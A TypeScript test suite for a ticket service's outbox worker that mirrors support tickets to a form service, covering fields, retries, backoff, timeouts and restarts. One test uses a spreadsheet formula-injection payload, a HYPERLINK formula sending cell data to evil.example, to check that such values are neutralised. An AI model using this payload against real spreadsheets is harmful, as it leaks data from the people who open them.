import type { Ticket } from "@shared/api/tickets";
import { eq } from "drizzle-orm";
import { afterEach, describe, expect, it } from "vitest";
import { createStudent } from "../../../tests/factories/users";
import { post } from "../../../tests/helpers/api";
import { type FormReceiver, startFormReceiver, unreachableUrl } from "../../../tests/helpers/form-receiver";
import { createTestApp, createTestAppOn, type TestApp } from "../../../tests/helpers/test-app";
import { outbox } from "../../db/schema";
import { createOutboxWorker, type OutboxRow, type OutboxWorker } from "../../jobs/outbox";
import { createTicketMirrorSender, TICKET_MIRROR_KIND } from "./tickets.service";

const MIRROR_FIELDS = ["college", "description", "email", "name", "purpose", "ticketId", "userId"];
const RETRY_BASE_MS = 20;
const MAX_ATTEMPTS = 5;
/** Generous, so a slow machine's first request is not mistaken for a hang; the hang test sets its own. */
const TIMEOUT_MS = 5000;
const SHORT_TIMEOUT_MS = 500;

/** Everything a test opened, closed after it (newest first) whatever happened. */
const cleanups: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

async function receiver(answer?: Parameters<typeof startFormReceiver>[0]): Promise<FormReceiver> {
  const started = await startFormReceiver(answer);
  cleanups.push(() => started.close());
  return started;
}

function mirrorEnv(url: string, overrides: Record<string, string> = {}): Record<string, string> {
  return {
    FORM_MIRROR_URL: url,
    OUTBOX_RETRY_BASE_MS: String(RETRY_BASE_MS),
    OUTBOX_MAX_ATTEMPTS: String(MAX_ATTEMPTS),
    OUTBOX_TIMEOUT_MS: String(TIMEOUT_MS),
    ...overrides,
  };
}

/**
 * An app whose outbox worker does not poll on its own: creating a ticket still kicks it once (that
 * is how a copy leaves at once), and the tests drive further passes with runOnce.
 */
async function mirrorApp(url: string, overrides: Record<string, string> = {}): Promise<TestApp> {
  const testApp = await createTestApp(mirrorEnv(url, overrides), { startWorkers: false });
  cleanups.push(() => testApp.close());
  return testApp;
}

/** A second worker on the app's database, built from the app's own configuration, to drive by hand. */
function handWorker(testApp: TestApp): OutboxWorker {
  const { config } = testApp;
  if (!config.FORM_MIRROR_URL) throw new Error("the app has no FORM_MIRROR_URL");
  const worker = createOutboxWorker({
    db: testApp.database.db,
    log: testApp.app.log,
    maxAttempts: config.OUTBOX_MAX_ATTEMPTS,
    retryBaseMs: config.OUTBOX_RETRY_BASE_MS,
    lanes: [
      {
        name: "forms",
        concurrency: 1,
        deadlineMs: config.OUTBOX_TIMEOUT_MS,
        senders: { [TICKET_MIRROR_KIND]: createTicketMirrorSender(config.FORM_MIRROR_URL) },
      },
    ],
  });
  cleanups.push(() => worker.stop());
  return worker;
}

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** Polls until the condition holds; fails with `what` after a few seconds. */
async function waitUntil(condition: () => boolean | Promise<boolean>, what: string, timeoutMs = 5000) {
  const deadline = Date.now() + timeoutMs;
  while (!(await condition())) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await sleep(10);
  }
}

/** Runs passes of the worker (waiting out the backoff between them) until the condition holds. */
async function driveUntil(worker: OutboxWorker, condition: () => boolean | Promise<boolean>, what: string) {
  await waitUntil(async () => {
    await worker.runOnce();
    return condition();
  }, what);
}

async function outboxRows(testApp: TestApp): Promise<OutboxRow[]> {
  return testApp.database.db.select().from(outbox).orderBy(outbox.id);
}

async function outboxRowOf(testApp: TestApp, ticket: Ticket): Promise<OutboxRow> {
  const rows = await outboxRows(testApp);
  const row = rows.find((r) => r.payload.ticketId === ticket.ticketId);
  if (!row) throw new Error(`no outbox row for ticket ${ticket.ticketId}`);
  return row;
}

async function raiseTicket(testApp: TestApp, cookie: string, description = "I cannot upload photos.") {
  const response = await post(testApp, "/api/tickets", { purpose: "Technical Bug", description }, { cookie });
  expect(response.statusCode).toBe(201);
  return (response.json() as { ticket: Ticket }).ticket;
}

/**
 * More passes over ~400 ms, longer than any backoff these settings reach (20 ms doubling to
 * 320 ms), to show that nothing more is sent.
 */
async function keepRunning(worker: OutboxWorker) {
  for (let i = 0; i < 8; i++) {
    await worker.runOnce();
    await sleep(50);
  }
  await worker.runOnce();
}

describe("the copy of each ticket for the form service", () => {
  it("arrives as multipart form data with exactly the spec's fields and Accept: application/json", async () => {
    const form = await receiver();
    const testApp = await mirrorApp(form.url);
    const student = await createStudent(testApp, {
      name: "Meera Pillai",
      city: "Chennai",
      college: "IIT Madras",
    });
    const ticket = await raiseTicket(testApp, student.cookie, "  My listing vanished.  ");

    // No hand-driving: the app sends the copy as soon as the ticket is stored.
    await waitUntil(() => form.received.length === 1, "the copy");
    const [copy] = form.received;
    expect(copy?.method).toBe("POST");
    expect(copy?.headers.accept).toBe("application/json");
    expect(copy?.headers["content-type"]).toMatch(/^multipart\/form-data; boundary=/);
    expect(copy?.fields.map(([name]) => name).sort()).toEqual(MIRROR_FIELDS);
    expect(Object.fromEntries(copy?.fields ?? [])).toEqual({
      ticketId: ticket.ticketId,
      name: "Meera Pillai",
      email: student.email,
      college: "IIT Madras",
      purpose: "Technical Bug",
      description: "My listing vanished.",
      userId: student.id,
    });
    await waitUntil(async () => (await outboxRowOf(testApp, ticket)).sentAt !== null, "the row marked sent");
    expect(await outboxRowOf(testApp, ticket)).toMatchObject({
      attempts: 0,
      failedAt: null,
      lastError: null,
    });
  });

  it("starts no field with a spreadsheet formula character: such a text gets a leading quote", async () => {
    const form = await receiver();
    const testApp = await mirrorApp(form.url);
    const student = await createStudent(testApp, { name: "@SUM(1+1)" });
    const description = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a refund")';
    const ticket = await raiseTicket(testApp, student.cookie, description);

    await waitUntil(() => form.received.length === 1, "the copy");
    const fields = Object.fromEntries(form.received[0]?.fields ?? []);
    expect(fields).toMatchObject({ name: "'@SUM(1+1)", description: `'${description}` });
    // Only the copy is neutralised: the ticket keeps the words the student wrote.
    expect(ticket.description).toBe(description);
    for (const value of Object.values(fields)) expect(String(value)).not.toMatch(/^[=+\-@\t\r]/);

    for (const text of ["+91 98765 43210 called me", "-5 stars", "@admin please look"]) {
      const sent = form.received.length;
      await raiseTicket(testApp, student.cookie, text);
      await waitUntil(() => form.received.length === sent + 1, "the next copy");
      const copy = Object.fromEntries(form.received.at(-1)?.fields ?? []);
      expect(copy.description).toBe(`'${text}`);
    }
  });

  it("does not hold up the user: the ticket is stored (201) while the form service is down", async () => {
    const testApp = await mirrorApp(await unreachableUrl());
    const student = await createStudent(testApp);
    const ticket = await raiseTicket(testApp, student.cookie);
    expect(ticket.status).toBe("open");

    await waitUntil(
      async () => (await outboxRowOf(testApp, ticket)).attempts >= 1,
      "the first failed attempt",
    );
    const row = await outboxRowOf(testApp, ticket);
    expect(row).toMatchObject({ sentAt: null, failedAt: null });
    expect(row.lastError).toBeTruthy();
  });

  it("a form service that fails the first 3 times gets exactly one copy, and nothing after it", async () => {
    const form = await receiver((n) => (n <= 3 ? "fail" : "ok"));
    const testApp = await mirrorApp(form.url);
    const worker = handWorker(testApp);
    const student = await createStudent(testApp);
    const ticket = await raiseTicket(testApp, student.cookie);

    await driveUntil(worker, () => form.accepted().length === 1, "the accepted copy");
    expect(form.received.map((r) => r.answer)).toEqual(["fail", "fail", "fail", "ok"]);
    // The retries carry the same copy.
    const copies = form.received.map((r) => JSON.stringify(r.fields));
    expect(new Set(copies).size).toBe(1);
    await waitUntil(async () => (await outboxRowOf(testApp, ticket)).sentAt !== null, "the row marked sent");
    expect(await outboxRowOf(testApp, ticket)).toMatchObject({
      attempts: 3,
      failedAt: null,
      lastError: null,
    });

    await keepRunning(worker);
    expect(form.received).toHaveLength(4);
    expect(form.accepted()).toHaveLength(1);
  });

  it("waits longer after each failure: the delay starts at OUTBOX_RETRY_BASE_MS and doubles", async () => {
    const form = await receiver(() => "fail");
    const testApp = await mirrorApp(form.url);
    const worker = handWorker(testApp);
    const student = await createStudent(testApp);
    await raiseTicket(testApp, student.cookie);

    // The hand worker passes every ~10 ms, so a copy leaves as soon as it is due, never before.
    await driveUntil(worker, () => form.received.length === 4, "four attempts");
    const gaps = form.received.slice(1).map((r, i) => r.at - (form.received[i]?.at ?? 0));
    const tolerance = 2; // timer and clock granularity
    expect(gaps[0]).toBeGreaterThanOrEqual(RETRY_BASE_MS - tolerance);
    expect(gaps[1]).toBeGreaterThanOrEqual(RETRY_BASE_MS * 2 - tolerance);
    expect(gaps[2]).toBeGreaterThanOrEqual(RETRY_BASE_MS * 4 - tolerance);
  });

  it("counts a form service that does not answer within OUTBOX_TIMEOUT_MS as a failure, and tries again", async () => {
    const form = await receiver((n) => (n === 1 ? "hang" : "ok"));
    const testApp = await mirrorApp(form.url, { OUTBOX_TIMEOUT_MS: String(SHORT_TIMEOUT_MS) });
    const worker = handWorker(testApp);
    const student = await createStudent(testApp);
    const ticket = await raiseTicket(testApp, student.cookie);

    await driveUntil(worker, () => form.accepted().length === 1, "the copy after the timeout");
    expect(form.received.map((r) => r.answer)).toEqual(["hang", "ok"]);
    await waitUntil(async () => (await outboxRowOf(testApp, ticket)).sentAt !== null, "the row marked sent");
    expect(await outboxRowOf(testApp, ticket)).toMatchObject({
      attempts: 1,
      failedAt: null,
      lastError: null,
    });
    await keepRunning(worker);
    expect(form.received).toHaveLength(2);
  });

  it("records a timeout as the error when a form service never answers", async () => {
    const form = await receiver(() => "hang");
    const testApp = await mirrorApp(form.url, {
      OUTBOX_TIMEOUT_MS: String(SHORT_TIMEOUT_MS),
      OUTBOX_MAX_ATTEMPTS: "2",
    });
    const worker = handWorker(testApp);
    const student = await createStudent(testApp);
    const ticket = await raiseTicket(testApp, student.cookie);

    await driveUntil(
      worker,
      async () => (await outboxRowOf(testApp, ticket)).failedAt !== null,
      "the row given up",
    );
    const row = await outboxRowOf(testApp, ticket);
    expect(row).toMatchObject({ attempts: 2, sentAt: null });
    expect(row.lastError).toMatch(/timeout|aborted/i);
    expect(form.received).toHaveLength(2);
  });

  it(`gives up after OUTBOX_MAX_ATTEMPTS (${MAX_ATTEMPTS}) failures, recording when and why, and sends no more`, async () => {
    const form = await receiver(() => "fail");
    const testApp = await mirrorApp(form.url);
    const worker = handWorker(testApp);
    const student = await createStudent(testApp);
    const ticket = await raiseTicket(testApp, student.cookie);

    await driveUntil(
      worker,
      async () => (await outboxRowOf(testApp, ticket)).failedAt !== null,
      "the row given up",
    );
    const row = await outboxRowOf(testApp, ticket);
    expect(row).toMatchObject({
      attempts: MAX_ATTEMPTS,
      sentAt: null,
      lastError: "form service answered 500",
    });
    expect(row.failedAt).toBeInstanceOf(Date);
    expect(form.received).toHaveLength(MAX_ATTEMPTS);

    await keepRunning(worker);
    expect(form.received).toHaveLength(MAX_ATTEMPTS);
    expect(await outboxRowOf(testApp, ticket)).toMatchObject({ attempts: MAX_ATTEMPTS });
  });

  it("two workers passing at the same time send a copy once", async () => {
    const form = await receiver();
    const testApp = await mirrorApp(form.url);
    const workers = [handWorker(testApp), handWorker(testApp), handWorker(testApp)];
    const student = await createStudent(testApp);
    const tickets = [
      await raiseTicket(testApp, student.cookie, "First"),
      await raiseTicket(testApp, student.cookie, "Second"),
    ];
    await Promise.all(workers.flatMap((worker) => [worker.runOnce(), worker.runOnce()]));
    await waitUntil(() => form.accepted().length === 2, "both copies");
    await Promise.all(workers.map((worker) => keepRunning(worker)));
    const sentIds = form.received.map((r) => Object.fromEntries(r.fields).ticketId);
    expect(sentIds.sort()).toEqual(tickets.map((t) => t.ticketId).sort());
  });

  it("a server restart between attempts loses nothing: the next instance sends the copy exactly once", async () => {
    const broken = await receiver(() => "fail");
    const working = await receiver();
    // Instance A stores the ticket; its one attempt fails. Then it stops, as a process would.
    const first = await createTestApp(mirrorEnv(broken.url), { startWorkers: false });
    cleanups.push(() => first.close());
    const student = await createStudent(first);
    const ticket = await raiseTicket(first, student.cookie);
    await waitUntil(async () => (await outboxRowOf(first, ticket)).attempts >= 1, "a failed attempt");
    await first.stop();
    const pending = await outboxRowOf(first, ticket);
    // Usually one attempt; a slow pass may retry once more before it ends (the row fell due again).
    expect(pending).toMatchObject({ sentAt: null, failedAt: null, lockedUntil: null });
    expect(pending.attempts).toBeLessThan(MAX_ATTEMPTS);
    expect(broken.received).toHaveLength(pending.attempts);
    await waitUntil(() => pending.nextAttemptAt.getTime() <= Date.now(), "the retry to fall due");

    // Instance B on the same database, started the ordinary way (its worker starts with it).
    const second = await createTestAppOn(first.database, mirrorEnv(working.url));
    cleanups.push(() => second.stop());
    await second.app.ready();
    await waitUntil(() => working.accepted().length === 1, "the copy from the restarted server");
    expect(Object.fromEntries(working.received[0]?.fields ?? [])).toMatchObject({
      ticketId: ticket.ticketId,
      userId: student.id,
    });
    await waitUntil(async () => (await outboxRowOf(second, ticket)).sentAt !== null, "the row marked sent");
    expect(await outboxRowOf(second, ticket)).toMatchObject({
      attempts: pending.attempts,
      failedAt: null,
      lastError: null,
    });

    await keepRunning(handWorker(second));
    expect(working.received).toHaveLength(1);
    expect(broken.received).toHaveLength(pending.attempts);
    expect(await outboxRows(second)).toHaveLength(1);
  });

  it("after success the outbox row for the ticket is the only one, sent once", async () => {
    const form = await receiver();
    const testApp = await mirrorApp(form.url);
    const student = await createStudent(testApp);
    const ticket = await raiseTicket(testApp, student.cookie);
    await waitUntil(async () => (await outboxRowOf(testApp, ticket)).sentAt !== null, "the row marked sent");
    const rows = await testApp.database.db.select().from(outbox).where(eq(outbox.kind, TICKET_MIRROR_KIND));
    expect(rows).toHaveLength(1);
    expect(form.accepted()).toHaveLength(1);
  });
});
